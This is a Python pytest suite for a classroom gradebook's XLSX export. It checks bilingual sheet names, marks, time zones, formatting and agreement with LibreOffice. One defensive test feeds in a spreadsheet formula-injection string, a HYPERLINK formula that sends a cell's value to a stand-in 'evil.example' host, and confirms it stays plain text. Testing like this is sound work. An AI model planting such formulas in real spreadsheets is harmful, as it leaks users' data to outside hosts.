"""The workbook, opened by two other programs: openpyxl, and LibreOffice where it is installed."""

from __future__ import annotations

import csv
import datetime
import io
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import exportbook
import openpyxl
import pytest

from simulator.classroom.exports.xlsx import xlsx
from simulator.classroom.model import VERDICT, Gradebook

CHINA = ZoneInfo("Asia/Shanghai")
SHEETS = {
    "zh": ["成绩", "要求", "提交记录", "常见错误", "进步"],
    "en": ["Marks", "Requirements", "Tries", "Mistakes", "Progress"],
}


def opened(book: Gradebook, lang: Any = "zh", zone: datetime.tzinfo = datetime.UTC) -> Any:
    return openpyxl.load_workbook(io.BytesIO(xlsx(book, lang, zone).data))


def values(sheet: Any) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_sheets_titles_and_frozen_headings_are_in_the_language_asked_for(lang: Any) -> None:
    workbook = opened(exportbook.gradebook(), lang)
    assert workbook.sheetnames == SHEETS[lang]
    for sheet in workbook:
        assert sheet["A1"].value.startswith("2025 级跨境电商 1 班 · ")
        assert sheet.freeze_panes is not None
        assert sheet.auto_filter.ref is not None
    assert ("As of 28 Sep 2025" if lang == "en" else "截至 2025年9月28日") in workbook.worksheets[0]["A2"].value


def test_marks_are_numbers_and_stand_with_their_student() -> None:
    book = exportbook.gradebook()
    rows = values(opened(book)["成绩"])
    assert rows[2][3::4][:3] == [a.title for a in book.assignments]
    assert rows[3][:7] == ["学号", "姓名", "分组", "最终成绩", "自动评分", "人工改分", "理由"]
    by_name = {row[1]: row for row in rows[4:]}
    assert by_name["张伟"][3:5] == [78.85, 78.85]
    assert by_name["王秀英"][3:6] == [75.5, 61.35, 75.5]
    assert by_name["王秀英"][6] == "断电重启，补记两单 · 陈老师 · 2025年9月17日 00:00"
    assert by_name["Anna Müller"][5:7] == [None, None]  # back to the automatic mark
    assert by_name["李娜"][3] is None
    assert by_name["张伟"][-2:] == [77.97, 3]
    assert {type(cell) for row in rows[4:] for cell in row[3:6]} <= {int, float, type(None)}
    assert by_name["（信息已删除）"][:5] == ["s05", "（信息已删除）", None, 55.85, 55.85]


def test_student_numbers_stay_text() -> None:
    sheet = opened(exportbook.gradebook())["成绩"]
    assert (sheet["A5"].value, sheet["A5"].data_type, sheet["A5"].number_format) == ("2025010001", "s", "@")


def test_requirements_have_colours_and_shares() -> None:
    sheet = opened(exportbook.gradebook())["要求"]
    rows = values(sheet)
    assert rows[4][:6] == ["9.2.1", "及时答复并上报疑难", 79.1, 10, 9, 0.9]
    assert [row[0] for row in rows[4:]] == ["9.2.1", "9.2.5", "11.1.1", "11.1.2"]
    assert sheet["F5"].number_format == "0%"
    coloured = [str(found.sqref) for found in sheet.conditional_formatting]
    assert coloured == ["C5:C8", "G5:G8", "I5:I8", "K5:K8"]
    assert {rule.type for found in sheet.conditional_formatting for rule in found.rules} == {"colorScale"}


def test_tries_are_dated_in_the_schools_time_and_verdicts_are_words() -> None:
    rows = values(opened(exportbook.gradebook(), zone=CHINA)["提交记录"])
    head = rows[2]
    mine = [dict(zip(head, row, strict=True)) for row in rows[3:] if row[1] == "张伟" and row[3] == "三天发完这批货"]
    assert [row["第几次"] for row in mine] == [1, 2, 3]
    assert [row["计分"] for row in mine] == [None, "是", None]
    assert mine[0]["完成时间"] == datetime.datetime(2025, 9, 8, 17, 0)  # noqa: DTZ001
    copied = next(dict(zip(head, row, strict=True)) for row in rows[3:] if row[1] == "李娜")
    assert copied["核验结果"] == VERDICT["copied"].zh
    assert copied["说明"].startswith("与学生 s01")
    assert copied["得分"] is None
    assert len(rows) - 3 == sum(len(c.tries) for c in exportbook.cells().values())


def test_mistakes_and_progress() -> None:
    workbook = opened(exportbook.gradebook(), "en")
    rows = values(workbook["Mistakes"])
    first = dict(zip(rows[2], rows[3], strict=True))
    assert (first["Requirement"], first["Students wrong"], first["Students"], first["Share of students"]) == (
        "9.2.5",
        2,
        10,
        0.2,
    )
    assert (first["Example: student id"], first["Facts"]) == ("s11", "17, 42")
    rows = values(workbook["Progress"])
    assert rows[2][4:] == ["Try 1", "Try 2", "Try 3"]
    assert rows[3] == [None, "Class median", None, "三天发完这批货", 64.1, 77.35, 72.85]
    assert rows[4][4:] == [10, 2, 1]
    mine = next(row for row in rows if row[1] == "张伟" and row[3] == "三天发完这批货")
    assert mine[4:] == [26.85, 78.85, 72.85]


def test_hostile_text_is_text_that_stays_text_when_it_is_edited() -> None:
    book = exportbook.hostile()
    made = xlsx(book, zone=datetime.UTC).data
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    sheets = "".join(text for name, text in parts.items() if "worksheets/sheet" in name)
    assert "<f>" not in sheets
    assert "hyperlink" not in sheets.lower()
    assert not [
        name for name in parts if "external" in name.lower() or ("rels" in name and "http://evil" in parts[name])
    ]
    workbook = openpyxl.load_workbook(io.BytesIO(made))
    seen = set()
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix
                    assert cell.number_format == "@"
                    assert len(cell.value) <= 32_767
                    seen.add(cell.value)
    assert '=HYPERLINK("http://evil.example/?x="&A1,"点我")' in seen
    assert "[/red]红" in seen
    assert "长" * 10_000 in seen


def test_the_same_gradebook_gives_the_same_bytes_and_its_own_date() -> None:
    book = exportbook.gradebook()
    assert xlsx(book, "zh", CHINA).data == xlsx(book, "zh", CHINA).data
    assert xlsx(book, "zh", CHINA).data != xlsx(book, "zh", CHINA, created=exportbook.BEGIN).data
    assert opened(book).properties.created == datetime.datetime(2025, 9, 28, 5, 4)  # noqa: DTZ001


def test_an_empty_class_is_a_workbook_too() -> None:
    workbook = opened(exportbook.empty())
    assert workbook.sheetnames == SHEETS["zh"]
    assert [sheet.max_row for sheet in workbook] == [4, 4, 3, 3, 3]


def test_columns_are_wide_enough_for_chinese() -> None:
    sheet = opened(exportbook.gradebook())["要求"]
    assert sheet.column_dimensions["B"].width >= 2 * len("依评价投诉持续改进服务")


def test_libreoffice_reads_the_same_figures(tmp_path: Path) -> None:
    """Every sheet as LibreOffice saves it as CSV has the values that openpyxl finds."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (apt-get install --no-install-recommends libreoffice-calc)")
    made = xlsx(exportbook.gradebook(), "zh", CHINA).data
    (tmp_path / "book.xlsx").write_bytes(made)
    # 44 comma, 34 quote, 76 UTF-8, from line 1, cells as stored, all sheets
    options = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1"
    subprocess.run(
        [office, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--convert-to",
         options, "--outdir", tmp_path, tmp_path / "book.xlsx"],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    workbook = openpyxl.load_workbook(io.BytesIO(made))
    for sheet in workbook:
        text = (tmp_path / f"book-{sheet.title}.csv").read_text("utf-8")
        found = list(csv.reader(io.StringIO(text)))
        expected = values(sheet)
        assert len(found) == len(expected)
        for row, wanted in zip(found, expected, strict=True):
            for cell, value in zip(row, wanted, strict=True):
                if isinstance(value, (int, float)):
                    shown = Decimal(cell.removesuffix("%")) / (100 if cell.endswith("%") else 1)
                    assert float(shown) == pytest.approx(float(value), abs=1e-9)
                elif not isinstance(value, datetime.datetime):
                    assert cell == (value or "")
